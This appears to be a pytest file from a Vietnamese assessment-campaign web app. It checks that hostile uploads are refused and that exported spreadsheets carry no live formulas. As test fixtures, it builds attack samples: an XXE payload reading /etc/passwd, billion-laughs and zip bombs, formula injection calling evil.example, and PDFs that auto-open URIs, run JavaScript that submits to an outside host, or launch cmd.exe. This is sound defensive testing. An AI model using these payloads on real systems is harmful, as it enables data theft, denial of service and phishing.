"""Hostile files (issue 11): spreadsheets the product writes carry no live formula and come back
exactly; hostile workbooks are refused before they are parsed; evidence files are parsed and active
content refused; a refused edit stores no file; only a unit's own forms store its files, within its
quota, and a row cites only the unit's files."""
import io
import zipfile

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from sqlalchemy import func, select
from sqlalchemy.orm import Session

from data_models import load_campaign
from fixtures import FIXTURES_DIR, SIGNING_DIR
from service import excel
from service.editing.assessment import leaf_rows
from service.safe_files import UnsafeFile, inspect_image, inspect_office, inspect_pdf
from service.store.campaigns import load_stored_campaign, stored_campaign_hash
from service.store.models import EvidenceFile
from tests.conftest import blank_pdf, login

C = "ninh-binh-2026"
NB = load_campaign(FIXTURES_DIR / C)
PNG = (SIGNING_DIR / "chu-ky-mau.png").read_bytes()


# ------------------------------------------------------------------------------ spreadsheets out
def _cells(xlsx: bytes) -> bytes:
    archive = zipfile.ZipFile(io.BytesIO(xlsx))
    return b"".join(archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/"))


def test_exports_carry_no_live_formula():
    hostile = NB.model_copy(update={"groups": [g.model_copy(update={"units": [
        u.model_copy(update={"name": '=HYPERLINK("http://evil.example","bấm")'}) if u.id == "sxd" else u
        for u in g.units]}) for g in NB.groups]})
    for xlsx in (excel.write_units_template(hostile), excel.write_results(hostile, __import__(
            "service.domain.scoring", fromlist=["compute_campaign"]).compute_campaign(hostile))):
        assert b"<f>" not in _cells(xlsx)
        sheet = load_workbook(io.BytesIO(xlsx)).worksheets[0]
        cell = next(c for row in sheet.iter_rows() for c in row if isinstance(c.value, str) and c.value.startswith("=HYP"))
        assert cell.data_type == "s" and cell.quotePrefix


TEXT = st.text(alphabet=st.sampled_from(list("=+-@ abcđĐ,.;:()ếưở\n0123456789")), min_size=1, max_size=40).map(
    lambda t: "\n".join(line.rstrip() for line in t.strip().split("\n"))).filter(lambda t: t.strip() and "\n\n" not in t)


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(explanation=TEXT, remark=TEXT, response=TEXT, score=st.integers(0, 4).map(lambda q: q / 4))
def test_score_sheet_export_then_import_is_exact(explanation, remark, response, score):
    """M5: what the product writes comes back exactly, formulas-looking text included."""
    leaf = next(r for r in leaf_rows(NB, "sxd") if r.score and r.score.self_score is not None and r.leaf.max_points >= 1)
    assessment = NB.assessment("sxd")
    scores = [s.model_copy(update={"explanation": explanation, "remark": remark, "response": response,
                                   "round1": type(s.self_score)(str(score))}) if s.code == leaf.leaf.code else s
              for s in assessment.scores]
    campaign = NB.model_copy(update={"assessments": [a.model_copy(update={"scores": scores}) if a.unit == "sxd" else a
                                                     for a in NB.assessments]})
    rows = {r["code"]: r for r in excel.read_unit_scores(excel.write_unit_scores(campaign, "sxd"))}
    row = rows[leaf.leaf.code]
    assert (row["explanation"], row["remark"], row["response"]) == (explanation, remark, response)
    assert float(row["round1"]) == score


# ------------------------------------------------------------------------------ spreadsheets in
def _workbook(rows) -> bytes:
    book = Workbook()
    for row in rows:
        book.active.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _rewrite_sheet(xlsx: bytes, change) -> bytes:
    source = zipfile.ZipFile(io.BytesIO(xlsx))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for name in source.namelist():
            data = source.read(name)
            target.writestr(name, change(data) if name == "xl/worksheets/sheet1.xml" else data)
    return out.getvalue()


HEADINGS = excel.PREVIOUS_HEADINGS
GOOD = _workbook([HEADINGS, ["snv", 88.5, 1]])


def _hostile():
    bomb = _rewrite_sheet(GOOD, lambda d: d.replace(b"</sheetData>", b"<row r=\"3\"><c r=\"A3\" t=\"inlineStr\"><is><t>"
                                                    + b" " * (60 * 1024 * 1024) + b"</t></is></c></row></sheetData>"))
    dimension = _rewrite_sheet(GOOD, lambda d: d.replace(b'<dimension ref="A1:C2"/>', b'<dimension ref="A1:XFD1048576"/>')
                               .replace(b"</sheetData>", b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t>'
                                                         b"</is></c></row></sheetData>"))
    xxe = _rewrite_sheet(GOOD, lambda d: b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
                         + d.replace(b"<t>snv</t>", b"<t>&e;</t>"))
    laughs = _rewrite_sheet(GOOD, lambda d: b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">'
                            + b"".join(b'<!ENTITY a%d "&a%s;&a%s;&a%s;&a%s;&a%s;&a%s;&a%s;&a%s;&a%s;&a%s;">'
                                       % ((i,) + (b"" if i == 1 else b"%d" % (i - 1),) * 10) for i in range(1, 9))
                            + b"]>" + d.replace(b"<t>snv</t>", b"<t>&a8;</t>"))
    formula = _rewrite_sheet(GOOD, lambda d: d.replace(b'<c r="A2" t="inlineStr"><is><t>snv</t></is></c>',
                                                       b'<c r="A2" t="str"><f>HYPERLINK("http://evil")</f></c>'))
    return {"zip bomb": bomb, "dimension bomb": dimension, "XXE": xxe, "billion laughs": laughs,
            "formula in a text column": formula, "not a workbook": b"PK\x03\x04 not really"}


@pytest.mark.parametrize("name", list(_hostile()))
def test_hostile_workbooks_are_refused_with_a_message(name, monkeypatch):
    data = _hostile()[name]
    if name == "zip bomb":                    # refused from the zip directory: openpyxl never opens it
        monkeypatch.setattr(excel, "load_workbook", lambda *a, **k: pytest.fail("opened a zip bomb"))
    with pytest.raises(excel.SheetError) as error:
        excel.read_previous_results(data)
    message = " ".join(error.value.problems)
    assert any(word in message for word in ("không phải bảng tính", "giải nén", "nén bất thường", "công thức",
                                            "quá nhiều dòng", "hàng tiêu đề")), message


def test_good_workbook_still_reads():
    assert excel.read_previous_results(GOOD) == [{"unit": "snv", "index": "88.5", "rank": 1}]


def test_hostile_workbook_upload_is_a_400_and_changes_nothing(app):
    engine = app.extensions["cchc_engine"]
    client = app.test_client()
    _, token = login(client, "admin")
    before = stored_campaign_hash(engine, C)
    for name, data in _hostile().items():
        response = client.post(f"/chien-dich/{C}/du-lieu/nhap", content_type="multipart/form-data",
                               data={"csrf_token": token, "loai": "nam-truoc", "tep": (io.BytesIO(data), "kq.xlsx")})
        assert response.status_code == 400, name
        assert "Không có thay đổi nào được lưu" in response.get_data(as_text=True)
    assert stored_campaign_hash(engine, C) == before


# ------------------------------------------------------------------------------ evidence content
def _pdf_with(action: dict | None = None, javascript: str | None = None) -> bytes:
    """A readable PDF whose catalogue opens with ``action`` (or carries document JavaScript)."""
    from pypdf import PdfWriter
    from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject
    writer = PdfWriter()
    writer.add_blank_page(width=99, height=99)
    if javascript:                            # document-level JavaScript in the name tree
        script = DictionaryObject({NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject(javascript)})
        tree = DictionaryObject({NameObject("/Names"): ArrayObject([TextStringObject("x"), writer._add_object(script)])})
        writer._root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): writer._add_object(tree)})
    if action:
        writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
            {NameObject(k): NameObject(v) if v.startswith("/") else TextStringObject(v) for k, v in action.items()})
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _docx_with_macro() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("word/document.xml", "<w:document/>")
        archive.writestr("word/vbaProject.bin", b"\x00" * 10)
    return out.getvalue()


def _docx_with(*parts: tuple[str, bytes | str]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("word/document.xml", "<w:document/>")
        for name, content in parts:
            archive.writestr(name, content)
    return out.getvalue()


def _rels(kind: str, target: str) -> str:
    return ('<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
            f'Target="{target}" TargetMode="External"/></Relationships>')


def _pdf_with_link() -> bytes:
    """A PDF whose page carries a hyperlink the reader clicks (allowed: it opens nothing by itself)."""
    from pypdf import PdfWriter
    from pypdf.annotations import Link
    from pypdf.generic import DictionaryObject, NameObject, TextStringObject
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    link = Link(rect=(50, 50, 200, 70), url="https://ninhbinh.gov.vn")
    writer.add_annotation(0, link)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


@pytest.mark.parametrize("check, data, words", [
    # review S12: files that call out to other servers when opened
    (lambda d: inspect_pdf(d, "a.pdf"), _pdf_with({"/S": "/URI", "/URI": "http://evil.example/dang-nhap"}), "tự mở địa chỉ"),
    (lambda d: inspect_pdf(d, "a.pdf"), _pdf_with({"/S": "/GoToR", "/F": "\\\\evil.example\\share\\x.pdf"}), "GoToR"),
    (lambda d: inspect_pdf(d, "a.pdf"), _pdf_with({"/S": "/GoToE", "/F": "x.pdf"}), "GoToE"),
    (lambda d: inspect_pdf(d, "a.pdf"), blank_pdf() + b"PK\x03\x04" + b"\x00" * 30, "dữ liệu lạ sau phần kết thúc"),
    (lambda d: inspect_office(d, "a.docx", "word/document.xml"),
     _docx_with(("word/_rels/settings.xml.rels", _rels("attachedTemplate", "http://evil.example/t.dotm"))), "lấy nội dung từ nơi khác"),
    (lambda d: inspect_office(d, "a.docx", "word/document.xml"),
     _docx_with(("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0" + b"\x00" * 60)), "OLE"),
    (lambda d: inspect_office(d, "a.docx", "word/document.xml"),
     _docx_with(("word/embeddings/Book1.xlsx", _docx_with(("xl/workbook.xml", "<w/>"), ("xl/vbaProject.bin", b"x")))), "macro"),

    (lambda d: inspect_pdf(d, "a.pdf"), _pdf_with({"/S": "/JavaScript", "/JS": "this.submitForm('http://evil')"}),
     "JavaScript"),
    (lambda d: inspect_pdf(d, "a.pdf"), _pdf_with(javascript="app.alert(1)"), "JavaScript"),
    (lambda d: inspect_pdf(d, "a.pdf"), _pdf_with({"/S": "/Launch", "/F": "cmd.exe"}), "Launch"),
    (lambda d: inspect_pdf(d, "a.pdf"), b"%PDF-1.4\n<html><script>alert(1)</script></html>", "không phải PDF đọc được"),
    (lambda d: inspect_image(d, "a.png", "PNG"), PNG + b"<html><script>alert(1)</script></html>", "dữ liệu lạ"),
    (lambda d: inspect_image(d, "a.png", "PNG"), b"\x89PNG\r\n\x1a\n<html></html>", "không phải ảnh PNG"),
    (lambda d: inspect_office(d, "a.docx", "word/document.xml"), _docx_with_macro(), "macro"),
], ids=["pdf-open-uri", "pdf-gotor-share", "pdf-gotoe", "pdf-zip-appended", "docx-remote-template", "docx-ole",
        "docx-embedded-macro-workbook", "pdf-open-action-js", "pdf-names-js", "pdf-launch", "pdf-html", "png-trailing-html", "png-truncated",
        "docx-macro"])       # named, not by their bytes: a zip's timestamp differs between test processes
def test_active_content_is_refused(check, data, words):
    with pytest.raises(UnsafeFile) as error:
        check(data)
    assert words in str(error.value)


def test_clean_files_pass():
    inspect_pdf(blank_pdf(), "a.pdf")
    inspect_image(PNG, "a.png", "PNG")
    inspect_pdf(_pdf_with(), "b.pdf")
    inspect_pdf(_pdf_with_link(), "c.pdf")                                       # a link the reader clicks
    inspect_pdf(_pdf_with({"/S": "/GoTo", "/D": "dau"}), "d.pdf")                 # a jump inside the file
    inspect_pdf(blank_pdf() + b"\r\n", "e.pdf")                                  # a trailing new line
    inspect_office(_docx_with(("word/_rels/document.xml.rels", _rels("hyperlink", "https://ninhbinh.gov.vn")),
                              ("word/embeddings/Chart1.xlsx", _docx_with(("xl/workbook.xml", "<w/>")))),
                   "f.docx", "word/document.xml")                                 # a link and a chart's workbook


def _files(engine, unit="sxd"):
    with Session(engine) as session:
        return session.scalar(select(func.count()).select_from(EvidenceFile).where(EvidenceFile.unit_id == unit))


def test_refused_edits_and_other_forms_store_no_file(app, monkeypatch):
    engine = app.extensions["cchc_engine"]
    before = _files(engine)
    unit = app.test_client()
    _, token = login(unit, "soxaydung")
    code = next(r.leaf.code for r in leaf_rows(load_stored_campaign(engine, C), "sxd") if r.lost_points)
    # sxd has submitted its report: a self-assessment edit is refused, and its file is not kept
    response = unit.post(f"/chien-dich/{C}/don-vi/sxd/tu-danh-gia", content_type="multipart/form-data", data={
        "csrf_token": token, "hanh-dong": "luu", f"tl-{code}-5-so": "1/BC", f"tl-{code}-5-ngay": "05/03/2026",
        f"tl-{code}-5-ten": "Báo cáo", f"tl-{code}-5-tepmoi": (io.BytesIO(blank_pdf()), "bc.pdf")})
    assert response.status_code == 400 and _files(engine) == before
    appraiser = app.test_client()
    _, atoken = login(appraiser, "thamdinh")
    planted = appraiser.post(f"/chien-dich/{C}/don-vi/sxd/tham-dinh", content_type="multipart/form-data", data={
        "csrf_token": atoken, f"tl-{code}-0-tepmoi": (io.BytesIO(blank_pdf()), "cai-vao.pdf")})
    assert planted.status_code == 400 and "không nhận tệp" in planted.get_data(as_text=True) and _files(engine) == before
    foreign = unit.post(f"/chien-dich/{C}/don-vi/sxd/giai-trinh", data={
        "csrf_token": token, f"gt-{code}": "Giải trình", f"bs-{code}-0-so": "2/BC", f"bs-{code}-0-ngay": "06/12/2026",
        f"bs-{code}-0-ten": "Tài liệu", f"bs-{code}-0-tep": "a" * 64})
    assert foreign.status_code == 400 and "không có trong kho tài liệu kiểm chứng" in foreign.get_data(as_text=True)
    monkeypatch.setenv("CCHC_EVIDENCE_QUOTA_MB", "0")
    over = unit.post(f"/chien-dich/{C}/don-vi/sxd/giai-trinh", content_type="multipart/form-data", data={
        "csrf_token": token, f"gt-{code}": "Giải trình", f"bs-{code}-0-so": "2/BC", f"bs-{code}-0-ngay": "06/12/2026",
        f"bs-{code}-0-ten": "Tài liệu", f"bs-{code}-0-tepmoi": (io.BytesIO(blank_pdf()), "bs.pdf")})
    assert over.status_code == 400 and "vượt" in over.get_data(as_text=True) and _files(engine) == before
    monkeypatch.delenv("CCHC_EVIDENCE_QUOTA_MB")
    kept = unit.post(f"/chien-dich/{C}/don-vi/sxd/giai-trinh", content_type="multipart/form-data", data={
        "csrf_token": token, f"gt-{code}": "Dòng một\r\nDòng hai", f"bs-{code}-0-so": "2/BC", f"bs-{code}-0-ngay": "06/12/2026",
        f"bs-{code}-0-ten": "Tài liệu", f"bs-{code}-0-tepmoi": (io.BytesIO(blank_pdf()), "bs.pdf")})
    assert kept.status_code == 302 and _files(engine) == before + 1
    stored = next(s for s in load_stored_campaign(engine, C).assessment("sxd").scores if s.code == code)
    assert stored.response == "Dòng một\nDòng hai"                     # multi-line text kept line by line
    report = unit.get(f"/chien-dich/{C}/van-ban/bao-cao-giai-trinh/sxd.docx").data
    import docx
    texts = [p.text for p in docx.Document(io.BytesIO(report)).paragraphs]
    assert "- Giải trình của đơn vị: Dòng một" in texts and "Dòng hai" in texts


def test_tex_in_a_unit_name_is_printed_as_typed():
    """L6: '$\\frac{$' in a name neither breaks the chart nor the Báo cáo kết quả."""
    from service.documents import compose
    from service.render.pdf_writer import render_pdf
    name = "Sở Tài chính $\\frac{$ $x^{2}$"
    campaign = NB.model_copy(update={"groups": [g.model_copy(update={"units": [
        u.model_copy(update={"name": name}) if u.id == "stc" else u for u in g.units]}) for g in NB.groups]})
    pdf = render_pdf(compose(campaign, "bao-cao-ket-qua"))
    assert pdf.startswith(b"%PDF-") and len(pdf) > 10_000


def test_deep_or_odd_json_to_the_api_is_a_400(app):
    client = app.test_client()
    _, token = login(client, "admin")
    headers = {"X-CSRF-Token": token, "Content-Type": "application/json"}
    for body, words in ((b"[" * 100_000 + b"]" * 100_000, "lồng quá sâu"), (b'{"a": NaN}', "số hữu hạn"),
                        (b"\xff\xfe", "UTF-8"), (b"{", "JSON không hợp lệ")):
        response = client.put(f"/api/campaigns/{C}/units/sxd/self-assessment", data=body, headers=headers)
        assert response.status_code == 400 and words in response.get_json()["loi"], response.get_json()
